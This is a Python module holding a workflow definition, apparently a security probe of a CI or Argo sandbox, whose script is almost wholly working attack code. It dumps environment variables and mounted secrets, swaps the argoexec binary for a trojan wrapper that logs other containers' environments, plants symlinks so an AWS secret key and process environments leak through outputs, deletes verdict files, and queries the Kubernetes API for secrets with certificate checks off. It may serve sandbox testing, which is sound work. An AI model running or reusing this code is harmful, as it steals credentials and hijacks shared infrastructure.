"""A job that looks for credentials everywhere that it can reach, and prints what it finds."""

WORKFLOW = """
jobs:
  steals:
    uses: script@v1
    outputs:
      data: {type: dataset, with: {ref: DATASET}}
    with:
      image: debian:12
      script: |
        argo=/var/run/argo
        cat > /tmp/thief <<'END'
        #!/bin/bash
        {
          echo "--- running in a container of $HOSTNAME as $(id -u): $*"
          env
          cat /proc/*/environ /proc/*/cmdline /argo/secret/*/* /var/run/textgen-api/* /var/run/secrets/*/*/*
          ls -R /handoff /verdict
          rm -rf /verdict/versions
          ln -s /proc/self/environ /verdict/versions
        } >> /var/run/argo/stolen 2>&1
        exec /var/run/argo/argoexec.real "$@"
        END
        chmod 755 /tmp/thief
        cp $argo/argoexec $argo/argoexec.real
        cp /tmp/thief $argo/thief
        mv -f $argo/thief $argo/argoexec && echo "--- argoexec is replaced"
        # what Argo reads of this container when it has ended
        rm -f $argo/ctr/main/combined
        ln -s /argo/secret/textgen-store/AWS_SECRET_ACCESS_KEY $argo/ctr/main/combined
        # what others read, write or run
        ln -s /proc/self/environ /verdict/versions/data
        ln -s /proc/1/environ /verdict/log
        ln -s /proc/self/environ /var/run/versions
        echo commit > /handoff/request
        ln -s /proc/1/environ /dev/termination-log
        for trap in python3 env sh; do cp /tmp/thief $argo/$trap; done
        # what there is
        env
        cat /proc/*/environ /proc/*/cmdline /proc/mounts
        find /var/run /run /argo /verdict /handoff /etc/secret* -type f 2> /dev/null | grep -v /proc/
        cat /var/run/secrets/*/*/* /var/run/textgen-api/* /argo/secret/*/*
        python3 - <<'END'
        import os, ssl, urllib.error, urllib.request
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        server = f"https://{os.environ['KUBERNETES_SERVICE_HOST']}:{os.environ['KUBERNETES_SERVICE_PORT']}"
        namespace = os.environ["PROJECT_ID"]
        for url in (
            f"{server}/api/v1/namespaces/{namespace}/secrets",
            f"{server}/api/v1/namespaces/{namespace}/pods",
            "https://NODE:10250/pods",
            "ENDPOINT/BUCKET",
            "ENDPOINT/BUCKET/NAMESPACE/store.json",
        ):
            try:
                with urllib.request.urlopen(url, context=context, timeout=5) as answer:
                    print("--- got", url, answer.read())
            except OSError as error:
                print("--- refused", url, getattr(error, "code", error))
        END
        echo text > /outputs/data/file
        sleep 5 # until `commit` may have started with what is its executor now
        cat $argo/stolen || echo "--- no container has started since"
"""
REQUESTS = 5
